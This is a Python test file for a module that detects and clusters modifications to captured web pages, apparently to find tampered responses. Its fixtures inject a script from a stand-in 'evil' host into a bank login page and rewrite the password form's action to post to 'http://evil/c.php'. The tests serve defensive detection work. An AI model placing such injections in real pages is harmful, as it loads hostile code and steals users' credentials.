"""Tests for fine-grained diff clustering."""

from collections import Counter

from hypothesis import given, settings, strategies as st

from repro.core.acquisition import HttpCapture
from repro.core.diffcluster import (
    DiffProfile,
    build_diff_profile,
    diff_cluster,
    quick_ratio,
    tag_diff,
)
from tests.oracles import (difflib_quick_ratio, pairwise_diff_cluster,
                           signed_multiset)

ORIGINAL = ("<html><head><title>Bank</title></head><body>"
            "<h1>Bank</h1><p>welcome</p>"
            "<form action=\"/login\"><input type=\"password\" "
            "name=\"p\"></form></body></html>")


def capture_with(body, domain="bank.example", ip="9.9.9.9"):
    return HttpCapture(domain, ip, "5.5.5.5", status=200, body=body)


class TestTagDiff:
    def test_identical_pages_no_diff(self):
        added, removed = tag_diff(ORIGINAL, ORIGINAL)
        assert not added
        assert not removed

    def test_injected_script_detected(self):
        modified = ORIGINAL.replace(
            "<body>", "<body><script src=\"http://evil/x.js\"></script>")
        added, removed = tag_diff(modified, ORIGINAL)
        assert added["script"] == 1
        assert not removed

    def test_removed_form_detected(self):
        modified = ORIGINAL.replace(
            "<form action=\"/login\"><input type=\"password\" "
            "name=\"p\"></form>", "")
        added, removed = tag_diff(modified, ORIGINAL)
        assert removed["form"] == 1
        assert removed["input"] == 1

    def test_attribute_change_is_replace(self):
        modified = ORIGINAL.replace('action="/login"',
                                    'action="http://evil/c.php"')
        added, removed = tag_diff(modified, ORIGINAL)
        assert added["form"] == 1
        assert removed["form"] == 1


class TestDiffProfile:
    def test_modification_size(self):
        modified = ORIGINAL.replace("<body>", "<body><script></script>")
        profile = build_diff_profile(capture_with(modified), [ORIGINAL])
        assert profile.modification_size == 1
        assert profile.added["script"] == 1

    def test_best_ground_truth_selected(self):
        other_truth = "<html><title>Unrelated</title><body><table>" \
            "<tr><td>x</td></tr></table></body></html>"
        modified = ORIGINAL.replace("<body>", "<body><script></script>")
        profile = build_diff_profile(capture_with(modified),
                                     [other_truth, ORIGINAL])
        # Diffed against the similar truth, not the unrelated one.
        assert profile.modification_size <= 2

    def test_requires_truth(self):
        import pytest
        with pytest.raises(ValueError):
            build_diff_profile(capture_with(ORIGINAL), [])

    def test_combined_multiset_signs(self):
        profile = DiffProfile(capture_with("x"), {"script": 2},
                              {"form": 1}, 0.9)
        combined = profile.combined_multiset()
        assert combined["+script"] == 2
        assert combined["-form"] == 1


class TestQuickRatioAgainstDifflib:
    """The similarity that picks a capture's ground truth is difflib's
    ``quick_ratio``, float for float."""

    @given(st.text(max_size=300), st.text(max_size=300))
    @settings(max_examples=300, deadline=None)
    def test_equals_difflib(self, a, b):
        assert quick_ratio(Counter(a), Counter(b)) \
            == difflib_quick_ratio(a, b)

    @given(st.text(alphabet="<>/abcdiv =\"", max_size=2000),
           st.text(alphabet="<>/abcdiv =\"", max_size=2000))
    @settings(max_examples=100, deadline=None)
    def test_equals_difflib_on_markup(self, a, b):
        assert quick_ratio(Counter(a), Counter(b)) \
            == difflib_quick_ratio(a, b)

    def test_empty_strings(self):
        assert quick_ratio(Counter(), Counter()) \
            == difflib_quick_ratio("", "") == 1.0
        assert quick_ratio(Counter("ab"), Counter()) \
            == difflib_quick_ratio("ab", "") == 0.0

    def test_truth_counted_once_per_caller(self):
        other = "<html><body><table></table></body></html>"
        counts = {}
        build_diff_profile(capture_with(ORIGINAL + "<p>"), [other, ORIGINAL],
                           counts)
        assert set(counts) == {other, ORIGINAL}
        assert counts[ORIGINAL] == Counter(ORIGINAL)
        first = counts[ORIGINAL]
        build_diff_profile(capture_with(ORIGINAL + "<b>"), [other, ORIGINAL],
                           counts)
        assert counts[ORIGINAL] is first


class TestDiffClustering:
    def test_same_modification_groups_across_sites(self):
        # The same script injection on two different sites clusters
        # together; a form swap clusters separately.
        site_a = ORIGINAL
        site_b = ("<html><head><title>Shop</title></head><body>"
                  "<div>items</div><form action=\"/buy\">"
                  "<input name=\"q\"></form></body></html>")
        inject = "<script src=\"http://evil/x.js\"></script>"
        profiles = [
            build_diff_profile(
                capture_with(site_a.replace("<body>", "<body>" + inject)),
                [site_a]),
            build_diff_profile(
                capture_with(site_b.replace("<body>", "<body>" + inject),
                             domain="shop.example"), [site_b]),
            build_diff_profile(
                capture_with(site_a.replace("<p>welcome</p>",
                                            "<iframe src=\"x\"></iframe>"
                                            "<blink>y</blink>")),
                [site_a]),
        ]
        clusters, __ = diff_cluster(profiles, threshold=0.5)
        assert len(clusters) == 2
        sizes = sorted(len(c) for c in clusters)
        assert sizes == [1, 2]

    def test_empty_input(self):
        clusters, __ = diff_cluster([], threshold=0.5)
        assert clusters == []


class TestDiffClusterAgainstPerPairJaccard:
    """``diff_cluster`` answers Jaccard per pair of signatures; a fresh
    ``Counter`` Jaccard per pair of profiles must give the same clusters
    and the same merge history, float for float."""

    MODIFICATIONS = st.tuples(
        st.dictionaries(st.sampled_from(("script", "div", "iframe", "a")),
                        st.integers(min_value=0, max_value=3), max_size=3),
        st.dictionaries(st.sampled_from(("form", "input", "div", "img")),
                        st.integers(min_value=0, max_value=3), max_size=3))

    @staticmethod
    def _profiles(modifications):
        return [DiffProfile(capture_with("x", ip="9.9.9.%d" % index),
                            Counter(added), Counter(removed), 0.9)
                for index, (added, removed) in enumerate(modifications)]

    @given(st.lists(MODIFICATIONS, min_size=1, max_size=6).flatmap(
               lambda pool: st.lists(st.sampled_from(pool), min_size=2,
                                     max_size=40)),
           st.sampled_from((0.0, 0.3, 0.5, 0.8, 1.0)))
    @settings(max_examples=150, deadline=None)
    def test_heavy_duplication(self, modifications, threshold):
        profiles = self._profiles(modifications)
        clusters, dendrogram = diff_cluster(profiles, threshold)
        expected, expected_dendrogram = pairwise_diff_cluster(
            profiles, threshold)
        assert [c.indices for c in clusters] \
            == [c.indices for c in expected]
        assert dendrogram.merges == expected_dendrogram.merges

    def test_signature_matches_the_counter_form(self):
        profile = DiffProfile(capture_with("x"),
                              {"script": 2, "div": 0}, {"form": 1}, 0.9)
        # (Unary plus drops the zero count the oracle keeps.)
        assert profile.combined_multiset() == +signed_multiset(profile)
        assert profile.signature == (("+script", 2), ("-form", 1))
